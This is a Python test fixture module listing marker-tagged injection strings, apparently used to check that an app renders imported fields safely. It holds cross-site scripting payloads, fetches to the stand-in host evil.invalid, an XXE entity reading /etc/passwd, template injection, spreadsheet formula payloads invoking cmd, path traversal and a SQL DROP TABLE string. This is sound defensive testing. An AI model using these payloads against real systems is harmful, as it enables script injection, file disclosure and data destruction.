"""Texts that would run, fetch, break or mislead if any sink took them for more than text. Made up for the tests.

Each may stand in any field of any import. ``MARK`` is part of every one, so that a page can be searched for it.
"""

from __future__ import annotations

MARK = "fl0wn"

#: What would run sets ``window.fl0wn`` or opens a dialog; what would fetch asks for evil.invalid.
PAYLOADS = (
    # markup in text
    f"<script>window.{MARK}=1;alert('{MARK}')</script>",
    f"</script><script>window.{MARK}=1</script>",
    f"</style><script>window.{MARK}=1</script>",
    f"</title><img src=x onerror=window.{MARK}=1>",
    f"</textarea><svg onload=window.{MARK}=1>",
    f"<img src=x onerror=window.{MARK}=1>",
    f"<svg/onload=window.{MARK}=1>",
    f"<svg><animate onbegin=window.{MARK}=1 attributeName=x dur=1s>",
    f"<details open ontoggle=window.{MARK}=1>",
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    f"<math><mtext></mtext><script>window.{MARK}=1</script></math>",
    f"<img src=https://evil.invalid/{MARK}.png>",
    f"<link rel=stylesheet href=https://evil.invalid/{MARK}.css>",
    f"<style>@import 'https://evil.invalid/{MARK}.css'</style>",
    f"<base href=https://evil.invalid/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=https://evil.invalid/{MARK}'>",
    f"<!--{MARK}--!><script>window.{MARK}=1</script>",
    # markup in attributes
    f'" onmouseover="window.{MARK}=1',
    f"' autofocus onfocus='window.{MARK}=1",
    f"javascript:window.{MARK}=1//",
    # scripts and their templates
    f"${{window.{MARK}=1}}",
    f"`;window.{MARK}=1;`",
    f"{{{{constructor.constructor('window.{MARK}=1')()}}}}",
    f'\\";window.{MARK}=1;//',
    f"{MARK}\u2028window.{MARK}=1\u2029",
    f"__proto__[{MARK}]=1",
    # Markdown, as Streamlit reads it
    f"[{MARK}](javascript:window.{MARK}=1)",
    f"![{MARK}](https://evil.invalid/{MARK}.png)",
    f":red[{MARK}] :material/warning: $\\href{{javascript:window.{MARK}=1}}{{x}}$",
    f"# {MARK}\n\n---\n\n| a | b |\n|---|---|",
    # entities, CDATA and templates of files
    f"]]><script>window.{MARK}=1</script>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;{MARK}</x>",
    f"&lt;script&gt;window.{MARK}=1&lt;/script&gt;",
    f"&#x3c;img src=x onerror=window.{MARK}=1&#x3e;",
    f"{{% for x in ().__class__.__base__.__subclasses__() %}}{MARK}{{% endfor %}}",
    # formulas of spreadsheets
    f'=HYPERLINK("https://evil.invalid/{MARK}","x")',
    f"@SUM(1+1)*cmd|' /C {MARK}'!A0",
    f"+cmd|' /C {MARK}'!A0",
    f"-2+3+cmd|' /C {MARK}'!A0",
    f"\t=1+1 {MARK}",
    f"\r=1+1 {MARK}",
    # direction, control characters and length
    f"\u202e{MARK}\u202c evil",
    f"\x00\x08\x1b[31m{MARK}",
    f"\ud83d{MARK}".encode("utf-8", "replace").decode(),
    f"../../../../tmp/{MARK}",
    f"{MARK}'; DROP TABLE documents; --",
    f"{MARK} " + "W" * 3000,
)  # fmt: skip
